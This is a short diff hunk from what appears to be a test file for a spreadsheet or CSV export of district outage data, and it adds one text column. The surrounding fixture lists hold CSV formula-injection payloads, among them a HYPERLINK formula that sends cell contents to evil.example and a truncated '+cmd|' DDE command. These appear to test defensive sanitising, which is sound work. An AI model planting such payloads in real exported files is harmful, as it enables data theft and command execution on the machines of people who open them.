@@ -31,7 +31,7 @@ HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C ca
                  "\t=1+1", "\r=2+2", "=1", "Obolonskyi", "-", "+"]
 HOSTILE_ADMIN1 = ["=A1", "@A1", "+A1", "-A1", "\t-A1", "UA80", "UA80", "UA80", "UA80", "UA80"]
 TEXT_COLUMNS = ["district_code", "district_name", "admin1_code", "severity_label", "outage_status", "main_driver",
-                "completeness", "forecast_issued_at", "data_as_of", "district_name_uk"]
+                "completeness", "forecast_issued_at", "data_as_of", "district_name_uk", "data_state"]
 NUMBER_COLUMNS = [c for c in PRIORITY_COLUMNS if c not in TEXT_COLUMNS]
 
 
